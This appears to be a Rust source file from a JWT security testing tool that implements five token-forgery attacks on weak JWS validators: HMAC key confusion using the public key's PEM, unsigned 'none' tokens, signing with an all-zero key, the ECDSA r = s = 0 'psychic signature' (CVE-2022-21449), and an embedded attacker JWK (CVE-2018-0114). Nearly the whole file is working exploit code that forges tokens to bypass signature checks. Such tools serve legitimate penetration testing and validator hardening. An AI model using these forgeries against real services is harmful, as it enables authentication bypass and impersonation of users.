//! Known attacks against weak or misconfigured JWS validators
//!
//! Each attack takes a token and returns a new, forged token. None of them
//! touch the payload.

use jwtsmith_common::bytes::trim_trailing;
use jwtsmith_key::{key_to_pem, JwsAlgorithm, Key, SymmetricKey};
use serde_json::{Map, Value};
use tracing::debug;

use crate::error::{JoseError, Result};
use crate::header::Header;
use crate::jws::Jws;
use crate::operations::{sign_parts, update_header, HeaderUpdate};
use crate::segment::Base64Segment;

/// Length of the all-zero HMAC secret used by [`sign_with_empty_key`]
pub const EMPTY_KEY_LEN: usize = 64;

/// DER `SEQUENCE { INTEGER 0, INTEGER 0 }`, an ECDSA signature with r = s = 0
pub const PSYCHIC_SIGNATURE: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

fn typ_and_alg_header(algorithm: &str) -> Result<Header> {
    let mut members = Map::new();
    members.insert("typ".into(), "JWT".into());
    members.insert("alg".into(), algorithm.into());
    Header::from_json(&members)
}

/// HMAC-sign with the verifier's public key, serialized as PEM, as the secret
///
/// Validators that take the algorithm from the token verify this with the
/// public key they already hold. With `strip_trailing_newlines` the PEM's
/// trailing LF bytes are removed first.
pub fn hmac_key_confusion(
    jws: &Jws,
    key: &Key,
    algorithm: JwsAlgorithm,
    strip_trailing_newlines: bool,
) -> Result<Jws> {
    if !matches!(key, Key::Rsa(_) | Key::Ec(_) | Key::Okp(_)) {
        return Err(JoseError::precondition(
            "key confusion needs an RSA, EC or OKP key",
        ));
    }
    if !algorithm.is_hmac() {
        return Err(JoseError::precondition(format!(
            "{algorithm} is not an HMAC algorithm"
        )));
    }

    let pem = key_to_pem(&key.to_public()?)?;
    let secret = if strip_trailing_newlines {
        trim_trailing(pem.as_bytes(), b'\n')
    } else {
        pem.as_bytes()
    };
    debug!(%algorithm, strip_trailing_newlines, "forging key confusion token");

    let header = typ_and_alg_header(algorithm.name())?;
    let hmac_key = Key::Symmetric(SymmetricKey::new(None, secret.to_vec()));
    sign_parts(&hmac_key, algorithm, header.encoded(), jws.claims().encoded())
}

/// Unsigned token with `alg` set to `algorithm` (`none`, `None`, `NONE`, ...)
pub fn none_signing(jws: &Jws, algorithm: &str) -> Result<Jws> {
    let header = typ_and_alg_header(algorithm)?;
    Ok(Jws::from_segments(
        header.segment().clone(),
        jws.claims().segment().clone(),
        Base64Segment::empty(),
    ))
}

/// HMAC-sign with a secret of [`EMPTY_KEY_LEN`] zero bytes
pub fn sign_with_empty_key(jws: &Jws, algorithm: JwsAlgorithm) -> Result<Jws> {
    if !algorithm.is_hmac() {
        return Err(JoseError::precondition(format!(
            "{algorithm} is not an HMAC algorithm"
        )));
    }

    let key = Key::Symmetric(SymmetricKey::new(None, vec![0u8; EMPTY_KEY_LEN]));
    let header = update_header(jws.header(), None, algorithm, HeaderUpdate::AlgorithmOnly)?;
    sign_parts(&key, algorithm, header.encoded(), jws.claims().encoded())
}

/// Replace the signature with r = s = 0 (CVE-2022-21449)
pub fn sign_with_psychic_signature(jws: &Jws, algorithm: JwsAlgorithm) -> Result<Jws> {
    if !matches!(
        algorithm,
        JwsAlgorithm::Es256 | JwsAlgorithm::Es384 | JwsAlgorithm::Es512
    ) {
        return Err(JoseError::precondition(format!(
            "{algorithm} is not a NIST ECDSA algorithm"
        )));
    }

    let header = update_header(jws.header(), None, algorithm, HeaderUpdate::AlgorithmOnly)?;

    Ok(Jws::from_segments(
        header.segment().clone(),
        jws.claims().segment().clone(),
        Base64Segment::encode(PSYCHIC_SIGNATURE),
    ))
}

/// Sign with `key` and embed its JWK in the header (CVE-2018-0114)
///
/// The header is `kid` (when the key has one), `typ`, `alg` and `jwk`. The
/// embedded JWK is public unless `embed_private` is set.
pub fn embedded_jwk(
    jws: &Jws,
    key: &Key,
    algorithm: JwsAlgorithm,
    embed_private: bool,
) -> Result<Jws> {
    if !key.can_sign() || !key.signing_algorithms().contains(&algorithm) {
        return Err(JoseError::precondition(format!(
            "{} cannot sign with {algorithm}",
            key.description()
        )));
    }

    let mut members = Map::new();
    if let Some(kid) = key.key_id() {
        members.insert("kid".into(), Value::from(kid));
    }
    members.insert("typ".into(), "JWT".into());
    members.insert("alg".into(), algorithm.name().into());
    members.insert("jwk".into(), key.to_jwk(embed_private)?);
    let header = Header::from_json(&members)?;

    sign_parts(key, algorithm, header.encoded(), jws.claims().encoded())
}
